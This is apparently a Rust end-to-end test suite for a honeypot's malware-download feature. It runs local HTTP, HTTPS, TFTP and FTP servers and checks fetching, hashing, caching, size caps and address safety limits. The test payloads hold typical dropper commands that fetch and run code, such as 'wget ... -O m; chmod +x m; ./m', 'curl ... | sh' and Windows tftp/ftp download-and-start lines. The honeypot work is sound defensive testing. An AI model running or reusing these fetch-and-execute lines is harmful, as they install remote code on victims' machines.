//! End-to-end: the downloaders against real servers in the attacker namespace
//! (python3 http.server over HTTP and HTTPS with a self-signed certificate made
//! here, tftpd-hpa, pyftpdlib, and a pyftpdlib that refuses passive mode). The
//! attack payload sent to honeytrap carries the instruction; the test checks the
//! event's download (URL, size, SHA-256 computed here, the stored file), that a URL
//! fetched twice is stored once and reported `cached`, and the safety limits: an
//! oversized file cut and marked, a forbidden address never contacted (the server
//! logs no request), a silent server recorded as a timeout, `replace_private_ips`,
//! and the attack emitted in every case.

mod support;

use serde_json::Value;
use sha2::Digest as _;
use std::path::{Path, PathBuf};
use std::time::Duration;
use support::clients::{nc_once, wait_listening};
use support::daemon::{run, wait_until};
use support::netns::Background;
use support::{base_config, require_root, Daemon, NetPair};

const PY: &str = "/usr/bin/python3";

/// Fail loudly when a server program the test needs is missing.
fn require_tools() {
    for (what, ok) in [
        ("python3 (Debian)", Path::new(PY).exists()),
        ("openssl", Path::new("/usr/bin/openssl").exists()),
        (
            "in.tftpd (tftpd-hpa)",
            Path::new("/usr/sbin/in.tftpd").exists(),
        ),
        (
            "pyftpdlib (python3-pyftpdlib)",
            std::process::Command::new(PY)
                .args(["-c", "import pyftpdlib"])
                .status()
                .is_ok_and(|s| s.success()),
        ),
    ] {
        assert!(ok, "{what} is needed (installed by .ci/run)");
    }
}

fn sha256(data: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(data))
}

/// Deterministic pseudo-random content.
fn content(len: usize, seed: u32) -> Vec<u8> {
    let mut x = seed.wrapping_mul(2_654_435_761).max(1);
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect()
}

/// A directory readable by servers that drop privileges.
fn served_dir() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    d
}

fn write(dir: &Path, name: &str, data: &[u8]) {
    use std::os::unix::fs::PermissionsExt;
    let p = dir.join(name);
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
}

/// Config: listen on TCP 2323, `[downloads]` as given.
fn config(downloads: &str) -> String {
    let mut c = base_config(Path::new("@DATA@"), "2323", "");
    c.push_str("[limits]\nread_timeout = \"500ms\"\n");
    c.push_str(&format!("[downloads]\n{downloads}\n"));
    c
}

const ALLOW: &str = "allow = [\"10.77.0.0/16\", \"fd77::/16\"]";

/// Send `payload` to honeytrap and return the event carrying it, once analysed.
fn attack(net: &NetPair, d: &Daemon, payload: &str) -> Value {
    let data = payload.as_bytes().to_vec();
    nc_once(net, &net.hp_v4, 2323, &data);
    let mut found = None;
    wait_until(Duration::from_secs(40), || {
        found = d.events().into_iter().find(|e| {
            e["honeytrap"]["virtual"] != true
                && support::clients::payload(e) == data
                && e["honeytrap"]["analysis"]["done"] == true
        });
        found.is_some()
    });
    found.unwrap_or_else(|| panic!("no analysed event for {payload:?}:\n{}", d.log()))
}

fn downloads(e: &Value) -> Vec<Value> {
    e["honeytrap"]["downloads"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn by_url<'a>(ds: &'a [Value], url: &str) -> &'a Value {
    ds.iter()
        .find(|d| d["url"] == url)
        .unwrap_or_else(|| panic!("no download of {url} in {ds:#?}"))
}

/// The download succeeded with `data`, and the stored file holds it.
fn assert_fetched(d: &Daemon, dl: &Value, data: &[u8]) {
    assert_eq!(dl["error"], Value::Null, "{dl:#}");
    assert_eq!(dl["size"], data.len(), "{dl:#}");
    assert_eq!(dl["truncated"], false);
    assert_eq!(dl["hashes"]["sha256"], sha256(data).as_str());
    let stored = dl["stored"].as_str().expect("stored");
    assert_eq!(
        stored,
        format!("downloads/{}/{}", &sha256(data)[..2], sha256(data))
    );
    assert_eq!(std::fs::read(d.data().join(stored)).unwrap(), data);
}

/// Files under `<data>/downloads` (stored samples).
fn stored_files(d: &Daemon) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(tops) = std::fs::read_dir(d.data().join("downloads")) else {
        return out;
    };
    for t in tops.flatten() {
        for f in std::fs::read_dir(t.path()).unwrap().flatten() {
            out.push(f.path());
        }
    }
    out
}

/// python3 http.server on `port` in the attacker namespace, requests logged to
/// `log`.
fn http_server(net: &NetPair, dir: &Path, port: u16, log: &Path) -> Background {
    http_server_on(net, &net.at_v4, dir, port, log)
}

/// python3 http.server on `addr` (IPv4 or IPv6) `port` in the attacker namespace.
fn http_server_on(net: &NetPair, addr: &str, dir: &Path, port: u16, log: &Path) -> Background {
    let bg = net.background_attacker(&format!(
        "cd {} && exec {PY} -m http.server {port} --bind {addr} 2>{}",
        dir.display(),
        log.display()
    ));
    wait_listening(&net.attacker, "tcp", port, 1);
    bg
}

/// An HTTPS server with a self-signed certificate made now.
fn https_server(net: &NetPair, dir: &Path, port: u16, work: &Path) -> Background {
    let (cert, key) = (work.join("cert.pem"), work.join("key.pem"));
    let out = run(
        {
            let mut c = std::process::Command::new("openssl");
            c.args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
            ])
            .args(["-subj", "/CN=malware.invalid", "-keyout"])
            .arg(&key)
            .arg("-out")
            .arg(&cert);
            c
        },
        Duration::from_secs(30),
    );
    assert!(
        out.status.success(),
        "openssl: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let script = work.join("https.py");
    std::fs::write(
        &script,
        format!(
            r#"import functools, http.server, ssl
h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="{dir}")
s = http.server.ThreadingHTTPServer(("{addr}", {port}), h)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain("{cert}", "{key}")
s.socket = c.wrap_socket(s.socket, server_side=True)
s.serve_forever()
"#,
            dir = dir.display(),
            addr = net.at_v4,
            cert = cert.display(),
            key = key.display()
        ),
    )
    .unwrap();
    let bg = net.background_attacker(&format!(
        "exec {PY} {} 2>{}",
        script.display(),
        work.join("https.log").display()
    ));
    wait_listening(&net.attacker, "tcp", port, 1);
    bg
}

fn requests(log: &Path, path: &str) -> usize {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains(&format!("\"GET {path} ")))
        .count()
}

#[test]
fn http_and_https_fetched_stored_once_then_cached_and_capped() {
    if !require_root() {
        return;
    }
    require_tools();
    let net = NetPair::new("dlhttp");
    let files = served_dir();
    let work = tempfile::tempdir().unwrap();
    let mal = content(100_000, 1);
    let big = content(3 << 20, 2);
    write(files.path(), "mal.bin", &mal);
    write(files.path(), "big.bin", &big);
    let log = work.path().join("http.log");
    let _http = http_server(&net, files.path(), 8000, &log);
    let _https = https_server(&net, files.path(), 8443, work.path());
    let log6 = work.path().join("http6.log");
    let _http6 = http_server_on(&net, &net.at_v6, files.path(), 8006, &log6);
    let d = Daemon::start(&net, &config(&format!("{ALLOW}\nmax_size = \"1MiB\"")));
    let at = &net.at_v4;

    // A typical IoT dropper line, an HTTPS fetch (self-signed), an oversized file.
    let e = attack(
        &net,
        &d,
        &format!(
            "cd /tmp || cd /var/run; wget http://{at}:8000/mal.bin -O m; chmod +x m; ./m\r\n\
             curl -k -o n https://{at}:8443/mal.bin\r\n\
             /bin/busybox wget {at}:8000/big.bin\r\n\
             wget -q http://[{at6}]:8006/mal.bin\r\n",
            at6 = net.at_v6
        ),
    );
    let ds = downloads(&e);
    assert_eq!(ds.len(), 4, "{ds:#?}");
    let plain = by_url(&ds, &format!("http://{at}:8000/mal.bin"));
    assert_fetched(&d, plain, &mal);
    assert_eq!(plain["analyzer"], "http");
    assert_eq!(
        (plain["host"].as_str(), plain["port"].as_u64()),
        (Some(at.as_str()), Some(8000))
    );
    assert_eq!(plain["cached"], false);
    assert_eq!(plain["source"]["kind"], "payload");
    let tls = by_url(&ds, &format!("https://{at}:8443/mal.bin"));
    assert_fetched(&d, tls, &mal);
    let v6 = by_url(&ds, &format!("http://[{}]:8006/mal.bin", net.at_v6));
    assert_fetched(&d, v6, &mal);
    assert_eq!(v6["host"], net.at_v6.as_str());
    let cut = by_url(&ds, &format!("http://{at}:8000/big.bin"));
    assert_eq!(
        (cut["size"].as_u64(), cut["truncated"].as_bool()),
        (Some(1 << 20), Some(true))
    );
    assert_eq!(cut["hashes"]["sha256"], sha256(&big[..1 << 20]).as_str());
    // mal.bin three times (HTTP, HTTPS, IPv6) is one file; the cut big.bin the other.
    assert_eq!(stored_files(&d).len(), 2, "{:?}", stored_files(&d));

    // A second attack with the same URL: not fetched again, reported cached.
    let e2 = attack(
        &net,
        &d,
        &format!("wget http://{at}:8000/mal.bin -q -O-|sh\n"),
    );
    let ds2 = downloads(&e2);
    assert_eq!(ds2.len(), 1, "{ds2:#?}");
    assert_eq!(ds2[0]["cached"], true);
    assert_eq!(ds2[0]["hashes"]["sha256"], sha256(&mal).as_str());
    assert_eq!(ds2[0]["stored"], plain["stored"]);
    assert_eq!(
        requests(&log, "/mal.bin"),
        1,
        "fetched once:\n{}",
        std::fs::read_to_string(&log).unwrap()
    );
    assert_eq!(stored_files(&d).len(), 2);

    // A fetched script is analysed in turn: the file it fetches is downloaded too,
    // with the script as its source.
    let script = format!("#!/bin/sh\ncd /tmp\nwget http://{at}:8000/stage2.bin -O s2\n./s2\n");
    write(files.path(), "bins.sh", script.as_bytes());
    let stage2 = content(3_000, 9);
    write(files.path(), "stage2.bin", &stage2);
    let e3 = attack(
        &net,
        &d,
        &format!("curl -s http://{at}:8000/bins.sh | sh\n"),
    );
    let ds3 = downloads(&e3);
    assert_eq!(ds3.len(), 2, "{ds3:#?}");
    assert_fetched(
        &d,
        by_url(&ds3, &format!("http://{at}:8000/bins.sh")),
        script.as_bytes(),
    );
    let s2 = by_url(&ds3, &format!("http://{at}:8000/stage2.bin"));
    assert_fetched(&d, s2, &stage2);
    assert_eq!(s2["source"]["kind"], "download");
    assert_eq!(s2["source"]["sha256"], sha256(script.as_bytes()).as_str());
}

#[test]
fn tftp_windows_and_busybox() {
    if !require_root() {
        return;
    }
    require_tools();
    let net = NetPair::new("dltftp");
    let files = served_dir();
    let a = content(70_000, 3);
    let b = content(1024, 4); // a multiple of 512: ends with an empty block
    write(files.path(), "a.exe", &a);
    write(files.path(), "mips", &b);
    let _tftpd = net.background_attacker(&format!(
        "exec /usr/sbin/in.tftpd -L --secure --address {}:69 {}",
        net.at_v4,
        files.path().display()
    ));
    wait_listening(&net.attacker, "udp", 69, 1);
    let d = Daemon::start(&net, &config(ALLOW));
    let at = &net.at_v4;
    let e = attack(
        &net,
        &d,
        &format!("cmd /c tftp -i {at} GET a.exe&start a.exe\ncd /tmp; busybox tftp -g -r mips {at}; chmod 777 mips\n"),
    );
    let ds = downloads(&e);
    assert_eq!(ds.len(), 2, "{ds:#?}");
    let da = by_url(&ds, &format!("tftp://{at}:69/a.exe"));
    assert_eq!(da["analyzer"], "tftp");
    assert_fetched(&d, da, &a);
    assert_fetched(&d, by_url(&ds, &format!("tftp://{at}:69/mips")), &b);
}

/// A pyftpdlib server that refuses EPSV and PASV (active mode only).
fn ftp_active_only(net: &NetPair, dir: &Path, port: u16, work: &Path) -> Background {
    let script = work.join("active.py");
    std::fs::write(
        &script,
        format!(
            r#"from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
import sys
class H(FTPHandler):
    def ftp_PASV(self, line):
        self.respond("502 passive mode refused here")
    def ftp_EPSV(self, line):
        self.respond("502 passive mode refused here")
    def ftp_EPRT(self, line):
        sys.stderr.write("active mode: EPRT %s\n" % line)
        sys.stderr.flush()
        return FTPHandler.ftp_EPRT(self, line)
a = DummyAuthorizer()
a.add_user("bob", "s3cret", "{dir}", perm="elr")
H.authorizer = a
FTPServer(("{addr}", {port}), H).serve_forever()
"#,
            dir = dir.display(),
            addr = net.at_v4
        ),
    )
    .unwrap();
    let bg = net.background_attacker(&format!(
        "exec {PY} {} 2>{}",
        script.display(),
        work.join("active.log").display()
    ));
    wait_listening(&net.attacker, "tcp", port, 1);
    bg
}

#[test]
fn ftp_script_passive_and_active_fallback() {
    if !require_root() {
        return;
    }
    require_tools();
    let net = NetPair::new("dlftp");
    let files = served_dir();
    let work = tempfile::tempdir().unwrap();
    let x = content(200_000, 5);
    let y = content(5_000, 6);
    write(files.path(), "x.exe", &x);
    write(files.path(), "y.bin", &y);
    let log = work.path().join("ftp.log");
    let _ftpd = net.background_attacker(&format!(
        "exec {PY} -m pyftpdlib -i {} -p 2121 -d {} -u user -P pass 2>{}",
        net.at_v4,
        files.path().display(),
        log.display()
    ));
    wait_listening(&net.attacker, "tcp", 2121, 1);
    let _active = ftp_active_only(&net, files.path(), 2122, work.path());
    let d = Daemon::start(&net, &config(ALLOW));
    let at = &net.at_v4;
    // The Windows script with separate user and password lines, and an ftp:// URL
    // to the server that only does active mode.
    let e = attack(
        &net,
        &d,
        &format!(
            "cmd /c echo open {at} 2121>o&echo user>>o&echo pass>>o&echo binary>>o&echo get x.exe>>o&echo bye>>o&ftp -s:o&x.exe\r\n\
             wget ftp://bob:s3cret@{at}:2122/y.bin\r\n"
        ),
    );
    let ds = downloads(&e);
    assert_eq!(ds.len(), 2, "{ds:#?}");
    let dx = by_url(&ds, &format!("ftp://user@{at}:2121/x.exe"));
    assert_eq!(dx["analyzer"], "ftp");
    assert_eq!(
        (dx["user"].as_str(), dx["password"].as_str()),
        (Some("user"), Some("pass"))
    );
    assert_fetched(&d, dx, &x);
    let dy = by_url(&ds, &format!("ftp://bob@{at}:2122/y.bin"));
    assert_fetched(&d, dy, &y);
    // That server refuses EPSV and PASV: the file came over an active connection.
    let alog = work.path().join("active.log");
    let logged = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
    assert!(
        wait_until(Duration::from_secs(5), || logged(&alog).contains("RETR")
            && logged(&alog).contains("active mode: EPRT")),
        "active server log:\n{}",
        logged(&alog)
    );
    assert!(wait_until(Duration::from_secs(5), || logged(&log).contains("RETR")));
}

#[test]
fn forbidden_address_timeout_and_replace_private_ips() {
    if !require_root() {
        return;
    }
    require_tools();
    let net = NetPair::new("dlsafe");
    let files = served_dir();
    let work = tempfile::tempdir().unwrap();
    let mal = content(4_000, 7);
    write(files.path(), "mal.bin", &mal);
    let log = work.path().join("http.log");
    let _http = http_server(&net, files.path(), 8000, &log);
    // Accepts and never answers.
    let _silent = net.background_attacker(&format!(
        "exec socat TCP-LISTEN:8001,bind={},reuseaddr,fork SYSTEM:'sleep 60'",
        net.at_v4
    ));
    wait_listening(&net.attacker, "tcp", 8001, 1);
    let at = &net.at_v4;

    // Default [downloads]: the attacker's (private) address is never contacted.
    let mut d = Daemon::start(&net, &config(""));
    let e = attack(
        &net,
        &d,
        &format!("wget http://{at}:8000/mal.bin; tftp -i {at} GET a.exe\n"),
    );
    let ds = downloads(&e);
    assert_eq!(ds.len(), 2, "{ds:#?}");
    for dl in &ds {
        assert!(
            dl["error"].as_str().unwrap_or("").contains("refused"),
            "{dl:#}"
        );
        assert_eq!(dl["hashes"], Value::Null);
    }
    assert_eq!(requests(&log, "/mal.bin"), 0, "the server saw a request");
    assert!(stored_files(&d).is_empty());
    d.stop();

    // A silent server: the time cap ends the download, the attack is still emitted.
    // replace_private_ips: 192.168.77.1 is private, tried at the attacker's address.
    let d = Daemon::start(
        &net,
        &config(&format!(
            "{ALLOW}\ntimeout = \"2s\"\nreplace_private_ips = true"
        )),
    );
    let e = attack(
        &net,
        &d,
        &format!("curl http://{at}:8001/never; wget http://192.168.77.1:8000/mal.bin\n"),
    );
    let ds = downloads(&e);
    assert_eq!(ds.len(), 2, "{ds:#?}");
    let slow = by_url(&ds, &format!("http://{at}:8001/never"));
    let err = slow["error"].as_str().unwrap_or("");
    assert!(
        err.contains("timed out") || err.contains("time"),
        "{slow:#}"
    );
    let moved = by_url(&ds, "http://192.168.77.1:8000/mal.bin");
    assert_eq!(moved["host"], at.as_str(), "{moved:#}");
    assert_fetched(&d, moved, &mal);
    assert_eq!(requests(&log, "/mal.bin"), 1);
}
